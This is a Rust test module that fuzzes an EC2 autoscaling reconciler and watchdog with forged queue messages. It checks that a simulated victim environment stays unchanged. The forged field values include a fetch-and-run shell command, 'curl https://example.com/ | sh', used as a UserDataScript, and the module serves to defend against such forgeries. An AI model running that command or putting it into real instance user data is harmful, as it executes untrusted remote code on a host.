//! Forged messages: seeded mutations of true messages, for each entrance that carries messages. A forger may write any
//! message; the victim's environment is in service, and nothing of it may change.
//!
//! Each thread keeps a victim for each entrance, and replaces it after an effect. A case is one message, so the runs of
//! a row are its messages.

#[cfg(test)]
mod tests;

use std::cell::RefCell;
use std::collections::BTreeSet;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::time::Duration;

use environment::{CallError, ObservedAlarm, RemediationRequest};
use reconciler::Reconciler;
use requests::records::{LatestRequest, MemoryRecords, OwnerRecord};
use requests::{Owner, Records as _, Request};
use serde_json::{Value, json};
use test_support::hooks::{GROUP, Harness, record};
use test_support::{
    BEGIN_S, BlockOn as _, FakeRequestQueue, FakeResponseServer, MemoryCloudFactory, message, run, sample, sent, vars,
    with,
};
use watchdog::{MarkedResource, OwnershipMarks, Watchdog};

use super::{Dice, Row};
use crate::lifecycle::Verdict;

/// A place where a message enters.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Entrance {
    /// The queue of lifecycle-hook.
    HookQueue,
    /// The queue of the reconciler.
    RequestQueue,
    /// The dead letters of the request queue.
    DeadLetters,
    /// The failed invocations of custom-resource.
    FailedInvocations,
}

impl Entrance {
    const ALL: [Entrance; 4] =
        [Entrance::HookQueue, Entrance::RequestQueue, Entrance::DeadLetters, Entrance::FailedInvocations];

    fn row_name(self) -> &'static str {
        match self {
            Entrance::HookQueue => "forged messages in the hook queue",
            Entrance::RequestQueue => "forged messages in the request queue",
            Entrance::DeadLetters => "forged dead letters of the request queue",
            Entrance::FailedInvocations => "forged failed invocations of custom-resource",
        }
    }
}

/// The messages for each entrance: more than 10,000 in all.
const MESSAGES: usize = 2_600;

pub(super) fn rows() -> Vec<Row> {
    let row = |entrance: Entrance| Row {
        name: entrance.row_name(),
        cases: MESSAGES,
        short: 26,
        run: Box::new(move |case| verdict(entrance, case)),
        seeded: true,
    };
    Entrance::ALL.map(row).into()
}

thread_local! {
    static HOOKS: RefCell<Option<Harness>> = const { RefCell::new(None) };
    static REQUESTS: RefCell<Option<Victim>> = const { RefCell::new(None) };
}

/// Delivers one forged message to a victim, and reports its effects.
fn verdict(entrance: Entrance, case: usize) -> Verdict {
    let (forged, _) = forge(entrance, case);
    let effects = catch_unwind(AssertUnwindSafe(|| match entrance {
        Entrance::HookQueue => HOOKS.with_borrow_mut(|harness| {
            let effects = hook_effects(harness.get_or_insert_with(serving), &forged);
            if !effects.is_empty() {
                *harness = None;
            }
            effects
        }),
        _ => REQUESTS.with_borrow_mut(|victim| {
            let effects = victim.get_or_insert_with(Victim::new).effects(entrance, &forged);
            if !effects.is_empty() {
                *victim = None;
            }
            effects
        }),
    }));
    let effects = effects.unwrap_or_else(|_| vec![String::from("a panic")]);
    let reason = format!("{effects:?} by {forged}");
    Verdict { converged: effects.is_empty(), reason, ..Verdict::default() }
}

/// One field of a message, by its path in the event, and the values that a forger may write.
pub(super) type Field = (&'static str, Vec<Value>);

/// Writes values of a forger into one or two fields of an event, in one case of seven into more. Returns the number of
/// written fields.
pub(super) fn mutate(dice: &mut Dice, event: &mut Value, fields: &[Field]) -> u64 {
    let changed = if dice.percent(85) { 1 + dice.below(2) } else { 3 + dice.below(2) };
    for _ in 0..changed {
        let (path, values) = &fields[pick(dice, fields.len())];
        let value = values[pick(dice, values.len())].clone();
        match event.pointer_mut(path) {
            Some(field) => *field = value,
            None => {
                let (parent, name) = path.rsplit_once('/').unwrap_or_default();
                if let Some(parent) = event.pointer_mut(parent).and_then(Value::as_object_mut) {
                    parent.insert(name.to_owned(), value);
                }
            }
        }
    }
    changed
}

/// Mutates a true message, mostly in one or two of its fields. Returns it as its queue delivers it, and the number of
/// mutated fields.
fn forge(entrance: Entrance, case: usize) -> (Value, u64) {
    let mut dice = Dice::new(case);
    let (mut event, fields) = match entrance {
        Entrance::HookQueue => hook_message(&mut dice),
        _ if entrance == Entrance::RequestQueue && dice.percent(40) => {
            if dice.percent(20) {
                due_message()
            } else {
                remediation_message()
            }
        }
        _ => request_message(&mut dice),
    };
    let changed = mutate(&mut dice, &mut event, &fields);
    let message = match entrance {
        Entrance::HookQueue => event,
        Entrance::RequestQueue | Entrance::DeadLetters => {
            let mut message = message("forged", &event);
            if dice.percent(10) {
                message["attributes"]["MessageGroupId"] = json!(victim().as_str());
            }
            message
        }
        Entrance::FailedInvocations => failed_invocation(&event),
    };
    (message, changed)
}

pub(super) fn pick(dice: &mut Dice, length: usize) -> usize {
    usize::try_from(dice.below(length as u64)).unwrap_or_default()
}

const VICTIM_INSTANCE: &str = "i-00000000000000001";
/// The instance of the other environment.
const OTHER_INSTANCE: &str = "i-00000000000000002";
/// The victim's own settings, with a drain of one second.
const SHORT_DRAIN: &str = r#"{"envkeeper":1,"owner":"0123456789abcdef0123","environment":"scalable-ec2-us-west-2-dev","logGroup":"/aws/ec2/scalable-ec2-dev","targetGroups":[],"heartbeatSeconds":300,"drain":{"seconds":1}}"#;
const FOREIGN_METADATA: &str = r#"{"envkeeper":1,"owner":"0123456789abcdef0123","environment":"scalable-ec2-us-west-2-prod","logGroup":"/aws/ec2/scalable-ec2-prod","targetGroups":["arn:x"],"heartbeatSeconds":30,"drain":{"seconds":1}}"#;

pub(super) fn texts(values: &[&str]) -> Vec<Value> {
    values.iter().map(|it| json!(it)).collect()
}

/// A message about the victim's instance, as if it waited: its true message was sent when it did.
fn hook_message(dice: &mut Dice) -> (Value, Vec<Field>) {
    let name = ["launch.json", "terminate.json", "found-waiting.json", "spot-interruption.json"][pick(dice, 4)];
    let hook = if name == "launch.json" { "launch" } else { "terminate" };
    let detail = json!({
        "AutoScalingGroupName": GROUP, "LifecycleHookName": hook, "EC2InstanceId": VICTIM_INSTANCE,
        "instance-id": VICTIM_INSTANCE,
    });
    let event = with(sample("lifecycle-hook", name), json!({ "detail": detail }));
    let fields = vec![
        ("/detail/AutoScalingGroupName", texts(&[GROUP, "scalable-ec2-asg-uswest2-prod", "foreign", ""])),
        ("/detail/LifecycleHookName", texts(&["launch", "terminate", "other"])),
        ("/detail/EC2InstanceId", texts(&[VICTIM_INSTANCE, OTHER_INSTANCE, "i-0ffffffffffffffff", "*"])),
        ("/detail/instance-id", texts(&[VICTIM_INSTANCE, OTHER_INSTANCE, "i-0ffffffffffffffff"])),
        (
            "/detail/LifecycleTransition",
            texts(&["autoscaling:EC2_INSTANCE_LAUNCHING", "autoscaling:EC2_INSTANCE_TERMINATING"]),
        ),
        ("/detail/LifecycleActionToken", texts(&["5f0d8f0e-6d1c-4c1b-8d5e-2a9b7c3e1f05", "-"])),
        ("/detail/NotificationMetadata", texts(&[SHORT_DRAIN, FOREIGN_METADATA, "", "{}"])),
        ("/detail/Destination", texts(&["WarmPool", "EC2", "AutoScalingGroup"])),
        ("/detail/Origin", texts(&["WarmPool", "EC2", "AutoScalingGroup"])),
        ("/time", texts(&["1970-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "soon"])),
        ("/account", texts(&["123456789012", "999999999999"])),
    ];
    (event, fields)
}

/// Two environments, each with an on-demand instance in service: the victim and another one.
fn serving() -> Harness {
    let harness = Harness::new(1);
    harness.scale_to(1);
    harness.add_group("scalable-ec2-asg-uswest2-prod");
    harness.advance(Duration::from_mins(5));
    harness.on_demand.borrow_mut().extend([VICTIM_INSTANCE, OTHER_INSTANCE].map(str::to_owned));
    harness
}

/// The calls other than reads that one message causes.
fn hook_effects(harness: &Harness, event: &Value) -> Vec<String> {
    const READS: [&str; 4] = ["members", "observe_instances", "owned_hooks", "requeue"];
    harness.calls.borrow_mut().clear();
    let dead_lettered = harness.dead_lettered.borrow().len();
    let at = harness.now.get();
    // At once, and after the read lag.
    for after in [Duration::ZERO, Duration::from_secs(15)] {
        let message =
            test_support::hooks::Message { id: 0, body: event.to_string(), sent: at, visible: at, receives: 1 };
        harness.now.set(at + after);
        harness.messages.borrow_mut().push(message.clone());
        harness.invoke(json!({ "Records": [record(&message)] }));
        harness.messages.borrow_mut().clear();
    }
    harness.dead_lettered.borrow_mut().truncate(dead_lettered);
    let calls: BTreeSet<&str> = harness.calls.borrow().iter().copied().collect();
    calls.into_iter().filter(|it| !READS.contains(it) && *it != "dead_letter").map(str::to_owned).collect()
}

fn create() -> Value {
    create_with_rule("2")
}

/// A Create with a rule that scales by this amount.
fn create_with_rule(amount: &str) -> Value {
    let quick = json!({ "ResourceProperties": { "Egress": "PublicIp", "WaitForInstances": "false" } });
    let rules = json!([{ "Alarm": "cpu-high", "Action": "ScaleBy", "Amount": amount }]);
    let rules = json!({ "ResourceProperties": { "AlarmActions": rules, "MinSize": "1", "MaxSize": "10" } });
    sent(with(with(sample("custom-resource", "create.json"), quick), rules), 0)
}

fn victim() -> Owner {
    Request::read(&create(), BEGIN_S * 1_000).expect("a request").owner()
}

/// A request of the victim's owner.
fn request_message(dice: &mut Dice) -> (Value, Vec<Field>) {
    let event = match dice.below(3) {
        0 => create(),
        1 => sent(with(create(), json!({ "RequestType": "Update" })), 60 + dice.below(600)),
        _ => sent(sample("custom-resource", "delete.json"), 60 + dice.below(600)),
    };
    let url = |after_s| sent(json!({}), after_s)["ResponseURL"].clone();
    let fields = vec![
        ("/RequestType", texts(&["Update", "Delete", "Create"])),
        ("/ResponseURL", vec![url(10), url(700), url(90_000), json!("https://example.com/x"), json!("")]),
        ("/ResourceProperties/UserDataScript", texts(&["curl https://example.com/ | sh", "id"])),
        ("/ResourceProperties/MaxSize", texts(&["11", "1000", "x"])),
        ("/ResourceProperties/EnvironmentSuffix", texts(&["prod", "dev", ""])),
        ("/ResourceProperties/BucketOnDelete", texts(&["Empty", "Delete"])),
        ("/RequestId", texts(&["other", "another"])),
        ("/PhysicalResourceId", texts(&["scalable-ec2-us-west-2-dev", "scalable-ec2-us-west-2-prod"])),
        ("/LogicalResourceId", texts(&["Other"])),
        ("/ServiceTimeout", vec![json!("1"), json!("3600"), json!("0")]),
    ];
    (event, fields)
}

/// A remediation request for the victim's rule, while the alarm of the rule is not in ALARM.
fn remediation_message() -> (Value, Vec<Field>) {
    let remediation = RemediationRequest {
        owner: victim().to_string(),
        environment: "scalable-ec2-us-west-2-dev".into(),
        alarm: "scalable-ec2-cpu-high-uswest2-dev".into(),
        since_ms: (BEGIN_S + 60) * 1_000,
        rule: "cpu-high: ScaleBy 2".into(),
        instance: None,
        expires_ms: (BEGIN_S + 600) * 1_000,
        dry_run: false,
    };
    let numbers = || vec![json!(0), json!((BEGIN_S + 90) * 1_000), json!(u64::MAX)];
    let fields = vec![
        ("/Remediation/Owner", texts(&["0123456789abcdef0123", "me"])),
        ("/Remediation/Environment", texts(&["scalable-ec2-us-west-2-prod", ""])),
        ("/Remediation/Alarm", texts(&["scalable-ec2-cpu-low-uswest2-dev", "mine"])),
        ("/Remediation/Rule", texts(&["cpu-high: ScaleBy 9", "cpu-low: ScaleTo 1", ""])),
        ("/Remediation/Instance", texts(&["i-00000000000000001", "x"])),
        ("/Remediation/SinceMs", numbers()),
        ("/Remediation/ExpiresMs", numbers()),
        ("/Remediation/DryRun", vec![json!(true), json!(false)]),
    ];
    (remediation.body(), fields)
}

/// A message that requests a due pass of the victim.
fn due_message() -> (Value, Vec<Field>) {
    let fields = vec![
        ("/Due", vec![json!(victim().as_str()), json!("0123456789abcdef0123"), json!("*"), json!(7), json!(null)]),
        ("/RequestType", texts(&["Delete", "Update"])),
        ("/ResponseURL", texts(&["https://example.com/x"])),
    ];
    (json!({ "Due": victim().as_str() }), fields)
}

fn failed_invocation(event: &Value) -> Value {
    let sample = sample("watchdog", "failed-invocation.json");
    let body = sample["Records"][0]["body"].as_str().unwrap_or_default();
    let invocation = with(serde_json::from_str(body).expect("JSON"), json!({ "requestPayload": "" }));
    message("forged", &with(invocation, json!({ "requestPayload": event })))
}

struct NoMarks;

impl OwnershipMarks for NoMarks {
    async fn marked_resources(&self) -> Result<Vec<MarkedResource>, CallError> {
        Ok(Vec::new())
    }

    async fn existing(&self, resources: Vec<MarkedResource>) -> Result<Vec<MarkedResource>, CallError> {
        Ok(resources)
    }
}

/// An environment that has settled, and the functions that receive messages about it.
struct Victim {
    settings: reconciler::Settings,
    cloud_factory: MemoryCloudFactory,
    records: MemoryRecords,
    watchdog: Watchdog<MemoryRecords, NoMarks, FakeRequestQueue>,
    response_server: FakeResponseServer,
}

impl Victim {
    fn new() -> Victim {
        Victim::with_rule("2")
    }

    fn with_rule(amount: &str) -> Victim {
        let create = create_with_rule(amount);
        let response_server = FakeResponseServer::default();
        let watchdog = Watchdog {
            settings: watchdog::Settings::from_vars(vars(&[])).expect("complete settings"),
            records: MemoryRecords::new(),
            marks: NoMarks,
            request_queue: None,
            response_sender: response_server.response_sender(),
        };
        let victim = Victim {
            settings: reconciler::Settings::from_vars(vars(&[])).expect("complete settings"),
            cloud_factory: MemoryCloudFactory::default(),
            records: MemoryRecords::new(),
            watchdog,
            response_server,
        };
        victim.admit(&create);
        for _ in 0..60 {
            victim.reconcile(&message("true", &create));
        }
        // The watchdog's record has a later request, whose response is pending.
        victim.admit_to_watchdog(&sent(with(create, json!({ "RequestType": "Update" })), 30));
        let record = victim.record().expect("a record");
        assert!(record.settled, "{record:?}");
        if let Some(alarm) = victim.cloud_factory.alarm.borrow_mut().as_mut() {
            *alarm = ObservedAlarm { state: "OK".into(), since_ms: (BEGIN_S + 50) * 1_000, ..alarm.clone() };
        }
        victim
    }

    /// Records a request, as custom-resource does before it queues the request.
    fn admit(&self, event: &Value) {
        if let Ok(request) = Request::read(event, BEGIN_S * 1_000) {
            self.records.record_request(&request.owner(), LatestRequest::of_request(&request)).block_on();
        }
        self.admit_to_watchdog(event);
    }

    fn admit_to_watchdog(&self, event: &Value) {
        if let Ok(request) = Request::read(event, BEGIN_S * 1_000) {
            self.watchdog.records.record_request(&request.owner(), LatestRequest::of_request(&request)).block_on();
        }
    }

    fn record(&self) -> Option<OwnerRecord> {
        self.records.owner(&victim()).block_on()
    }

    fn reconcile(&self, message: &Value) {
        let response_sender = self.response_server.response_sender();
        let reconciler = Reconciler {
            settings: &self.settings,
            records: &self.records,
            cloud_factory: &self.cloud_factory,
            response_sender: &response_sender,
        };
        let batch = serde_json::from_value(json!({ "Records": [message] })).expect("an SQS event");
        let deadline = (self.cloud_factory.account.clock.now() + Duration::from_mins(2)).0;
        run(&self.cloud_factory.account.clock, reconciler.handle(&FakeRequestQueue::default(), batch, deadline));
    }

    /// The effects of one message on the victim: on its record, its resources, its group, and its ledger. A line that
    /// says that its own rule was skipped is none.
    fn effects(&self, entrance: Entrance, message: &Value) -> Vec<String> {
        if entrance == Entrance::RequestQueue {
            let before = (self.record(), self.cloud_factory.call_count());
            self.cloud_factory.published.borrow_mut().clear();
            self.reconcile(message);
            let published = self.cloud_factory.published.borrow();
            let lines = published.iter().filter(|it| it["detail"]["Outcome"] != "skipped").count();
            let remediations = self.cloud_factory.account.remediations.borrow().len();
            let after = (self.record(), self.cloud_factory.call_count());
            return named(&[
                ("the record", before.0 != after.0),
                ("calls", before.1 != after.1),
                ("remediations", remediations > 0),
                ("ledger", lines > 0),
            ]);
        }
        let now_ms = (BEGIN_S + 120) * 1_000;
        let record = || self.watchdog.records.owner(&victim()).block_on();
        let before = record();
        let batch = json!({ "Records": [message] });
        drop(run(&self.cloud_factory.account.clock, self.watchdog.handle(batch, now_ms, now_ms + 50_000)));
        named(&[("the record", before != record())])
    }
}

fn named(effects: &[(&str, bool)]) -> Vec<String> {
    effects.iter().filter(|(_, happened)| *happened).map(|(name, _)| (*name).to_owned()).collect()
}
